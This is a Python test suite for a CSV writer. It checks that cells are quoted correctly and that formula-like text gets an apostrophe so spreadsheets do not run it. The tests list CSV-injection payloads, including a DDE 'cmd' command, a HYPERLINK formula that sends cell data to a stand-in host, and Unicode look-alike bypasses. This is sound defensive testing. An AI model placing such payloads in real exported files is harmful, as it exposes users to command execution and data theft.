"""CSV that every reader takes as it was meant, and that no spreadsheet runs."""

from __future__ import annotations

import csv
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parity.http.csv_text import csv_text, is_formula

TEXTS = st.text(st.characters(exclude_categories=["Cs"]))


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline=""), strict=True))


def test_lines_end_as_rfc_4180_has_it() -> None:
    assert csv_text(["a", "b"], [["x", 1], ["y", 2]]) == "a,b\r\nx,1\r\ny,2\r\n"


def test_without_rows_there_is_the_header() -> None:
    assert csv_text(["customerId", "value"], []) == "customerId,value\r\n"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Zoë 株式会社 🎉", "Zoë 株式会社 🎉"),
        ("a,b", '"a,b"'),
        ('say "no"', '"say ""no"""'),
        ("two\nlines", '"two\nlines"'),
        ("two\r\nlines", '"two\r\nlines"'),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        (None, ""),
        (0, "0"),
        (-5, "-5"),
        (10**30, "1" + "0" * 30),
        (Decimal("0.1"), "0.1"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E-9"), "0.000000001"),
        (Decimal("1E+3"), "1000"),
    ],
    ids=repr,
)
def test_a_cell_is_written_as(value: object, cell: str) -> None:
    assert csv_text(["id", "value"], [["x", value]]) == f"id,value\r\nx,{cell}\r\n"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-5",
        "-cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tx",
        " =1",
        "\N{NO-BREAK SPACE}=1",
        "\N{IDEOGRAPHIC SPACE}=1",
        "\N{FULLWIDTH EQUALS SIGN}1",
        "\N{FULLWIDTH PLUS SIGN}1",
        "\N{FULLWIDTH HYPHEN-MINUS}1",
        "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
        "\N{SMALL EQUALS SIGN}1",
        "\N{SMALL COMMERCIAL AT}SUM(A1)",
        "\N{MINUS SIGN}1",
        '=HYPERLINK("http://x.example?q="&A1,"click")',
        "=1,2",
    ],
    ids=repr,
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    written = csv_text([text], [["x", text]])
    assert cells(written) == [["'" + text], ["x", "'" + text]]


@given(st.lists(TEXTS, min_size=1))
def test_whatever_text_goes_in_comes_out_and_never_as_a_formula(row: list[str]) -> None:
    (read,) = cells(csv_text(["x"], [row]))[1:]
    assert not any(is_formula(cell) for cell in read)
    assert [text in {cell, cell.removeprefix("'")} for text, cell in zip(row, read, strict=True)] == [
        True
    ] * len(row)
    assert csv_text(["x"], [row]).encode()
